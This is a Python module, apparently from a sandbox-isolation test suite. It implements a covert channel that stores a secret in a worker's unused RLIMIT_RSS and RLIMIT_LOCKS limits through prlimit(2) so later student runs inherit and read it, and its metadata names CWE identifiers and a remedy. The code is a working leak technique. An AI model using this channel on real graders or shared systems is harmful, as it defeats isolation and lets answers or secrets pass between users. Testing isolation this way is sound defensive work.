# SPDX-License-Identifier: MIT
"""limits-mailbox.py - two words of 64 bits that everybody inherits.

Goal: another student's work, or an answer passed on.
Means: prlimit(2) on the worker. RLIMIT_RSS and RLIMIT_LOCKS have had no meaning since Linux 2.4, but
each still has a soft value of 64 bits, which one process of a user may set in another. What is put
into the worker's is inherited by every student that it starts afterwards: that one only asks itself.
"""

import resource

from attack import DONE, attempting, denied, honest, loot

RLIMIT_LOCKS = 10
BOXES = (resource.RLIMIT_RSS, RLIMIT_LOCKS)


def run(brief):
    attempting()
    try:
        words = [resource.getrlimit(box)[0] for box in BOXES]
    except (OSError, ValueError) as why:
        return denied("getrlimit", why)
    if resource.RLIM_INFINITY in words:
        return denied("getrlimit", "the boxes are empty")
    loot("".join(f"{word & 2**64 - 1:016x}" for word in words))
    return DONE


def victim(brief):
    """The accomplice. Where the worker is out of reach, it keeps the word in a file."""
    halves = brief.secret[:16], brief.secret[16:]
    try:
        for box, half in zip(BOXES, halves):
            word = int(half, 16)
            signed = word - 2**64 if word >= 2**63 else word
            resource.prlimit(brief.worker, box, (signed, resource.RLIM_INFINITY))
        return DONE
    except (OSError, ValueError):
        return honest(brief)


ATTACK = {
    "effect": "an answer is passed on to the next student",
    "means": "prlimit(2) on the worker: limits without a meaning, inherited by all who come after",
    "oracle": "secret:victim",
    "scene": "after-victim",
    "attack_id": "T1559, CWE-514, CWE-459",
    "remedy": "prlimit64 on oneself only; limits set anew for each student",
    "refs": ["getrlimit(2), RLIMIT_RSS and RLIMIT_LOCKS"],
    "run": run,
    "victim": victim,
}
